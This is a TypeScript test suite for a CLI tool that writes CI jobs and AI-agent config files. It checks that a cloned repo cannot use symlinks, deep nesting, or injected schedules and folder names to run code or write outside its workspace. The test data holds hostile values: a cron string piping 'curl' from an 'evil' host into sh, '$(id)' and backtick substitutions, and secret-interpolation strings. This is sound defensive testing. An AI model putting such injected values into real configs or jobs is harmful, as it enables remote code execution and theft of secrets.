/** Jobs and agents' files: a clone chooses neither where they are written nor a word that a shell reads in them. */
import { describe, expect, it } from "vitest";
import { connect } from "../../src/commands/connect.ts";
import { init } from "../../src/commands/init.ts";
import { CI_KINDS, jobFor } from "../../src/workspace/ci-jobs.ts";
import { readConfig } from "../../src/workspace/config.ts";
import { call } from "../commands/called.ts";
import { lithify } from "../support/lithify-here.ts";
import { testFolder } from "../support/test-folder.ts";
import { cloned, gitInside, link, unharmed } from "./clone.ts";

describe("a link in a clone", () => {
  it.each([
    ["out of it", (outside: string) => outside],
    ["into .git", () => ".git"],
    ["into .git/hooks, which are run", () => ".git/hooks"],
  ])("takes no job anywhere: %s", async (_, target) => {
    const victim = cloned((origin, outside) => {
      const to = target(outside.path);
      for (const folder of [".github", ".gitlab"]) link(origin, folder, to);
      for (const file of ["lithify.cron", "lithify-cronjob.yaml"]) link(origin, file, `${to}/pwned`);
    });
    const before = gitInside(victim.clone);
    for (const ci of CI_KINDS)
      expect((await call(init, victim.clone.path, { ci })).error, ci).toBe("OUTSIDE_WORKSPACE");
    unharmed(victim);
    expect(gitInside(victim.clone)).toEqual(before);
  });

  it("takes nothing that init itself makes out of it", async () => {
    for (const name of ["lithify.yaml", "logs", "memory", ".lithify"]) {
      const victim = cloned((origin, outside) => {
        origin.remove("logs");
        link(origin, name, outside.at("pwned"));
      });
      expect((await call(init, victim.clone.path, { yes: true })).code, name).not.toBe(0);
      unharmed(victim, name);
    }
  });

  it("takes no agent's file out of it, nor into .git", async () => {
    for (const inGit of [false, true]) {
      const victim = cloned((origin, outside) => {
        for (const file of [
          "AGENTS.md",
          "CLAUDE.md",
          ".mcp.json",
          ".cursor",
          ".codex",
          ".claude",
          ".github",
          ".vscode",
        ])
          link(origin, file, inGit ? ".git/config" : outside.at("pwned"));
      });
      const before = gitInside(victim.clone);
      const agents = ["claude-code", "codex", "cursor", "copilot", "opencode"];
      const ran = await call(connect, victim.clone.path, { agents, project: true, yes: true });
      expect(ran.code).toBe(1);
      unharmed(victim);
      expect(gitInside(victim.clone)).toEqual(before);
    }
  });
});

describe("what is nested without end in a clone", () => {
  const within = (levels: number, before: string, behind: string): string =>
    `${before.repeat(levels)}1${behind.repeat(levels)}`;

  it.each([
    [".mcp.json", (levels: number) => `{ "mcpServers": ${within(levels, '{ "lithify": ', "}")} }`],
    [".mcp.json", (levels: number) => within(levels, "[", "]")],
    [".codex/config.toml", (levels: number) => `a = ${within(levels, "[", "]")}`],
    [".codex/config.toml", (levels: number) => `${within(levels, "a.", "").slice(0, -1)}b = 1`],
  ])("ends no command that looks at agents' files: %s", async (file, nested) => {
    for (const levels of [2_200, 50_000]) {
      const victim = cloned((origin) => origin.write(file, nested(levels)));
      const list = await victim.run("connect", "--project", "--list");
      expect([list.code, list.stderr]).toEqual([0, ""]);
      const ran = await victim.run("connect", "--project", "--yes", "claude-code", "codex");
      expect(ran.stderr).toMatch(new RegExp(`${file} is left alone: line 1 cannot be read as `));
      expect((await victim.run("doctor")).stderr).toBe("");
      expect(victim.clone.read(file)).toBe(nested(levels));
    }
  });
});

describe("a schedule of a clone", () => {
  it.each([
    "* * * * *;curl\u0024{IFS}evil|sh;",
    "* * * * $(id)",
    "* * * * `id`",
    "0 3 * * * & id",
    "0 3 * * %id",
    "* * * * \u0024{{secrets.X}}",
    "0 3 * *\n* id",
    "0 0 0 0 @reboot",
    "1-99999999999 * * * *",
    "0 0 1-99999999 * *",
    "*/99999999999 * * * *",
    "*/0 * * * *",
    "60 3 * * *",
    "0 0 3 * 13 *",
    "0 0 * * 8",
    '0 3 * * "',
    "0 3 * * ''",
  ])("is refused when it is read: %s", (schedule) => {
    expect(readConfig({ schedule })).toHaveProperty("faults");
  });

  it.each(["30 3 * * *", "0 30 3 * * *", "*/15 8-18 * Jan-Mar mon,WED", " 0 0 1,15 * 0 "])("may be %s", (schedule) => {
    expect(readConfig({ schedule })).toHaveProperty("config");
  });

  it("of numbers without end is a fault of the configuration for whoever asks", async () => {
    const folder = testFolder({ "lithify.yaml": 'schedule: "1-99999999999 * * * *"\n', "logs/2026-04-08.md": "# x\n" });
    for (const args of [["doctor"], ["watch"], ["watch", "--look"], ["status"]])
      expect(await lithify(folder.path, args)).toMatchObject({
        code: 2,
        stderr: expect.stringContaining("schedule: "),
      });
  });

  it("is none that no cron knows, though its signs are cron's", async () => {
    const folder = testFolder({ "lithify.yaml": 'schedule: "* * * * curl"\n', "logs/2026-04-08.md": "# x\n" });
    expect((await call(init, folder.path, { ci: "cron" })).error).toBe("BAD_CONFIG");
    expect(folder.exists("lithify.cron")).toBe(false);
  });
});

describe("a folder's name in a clone", () => {
  it.each([
    "a\n* * * * * id",
    "\u0024{{ secrets.X }}",
    "$(id)",
  ])("that a job would run is refused: %j", async (name) => {
    const folder = testFolder({ [`${name}/logs/2026-04-08.md`]: "# x\n" });
    for (const ci of CI_KINDS) expect((await call(init, folder.at(name), { ci })).error, ci).toBe("BAD_PLACE");
  });

  it("is one word to a shell", () => {
    const facts = {
      version: "1",
      schedule: "30 3 * * *",
      workspace: "/w",
      memory: "memory",
      ...{ node: "node", bin: "bin.js", script: "in-clone.sh", clone: "/c" },
      proposes: false,
    };
    const { text } = jobFor("gitlab", { ...facts, prefix: "a`id`$X'b/" });
    expect(text).toContain(JSON.stringify("cd -- 'a`id`$X'\\''b/'"));
  });
});
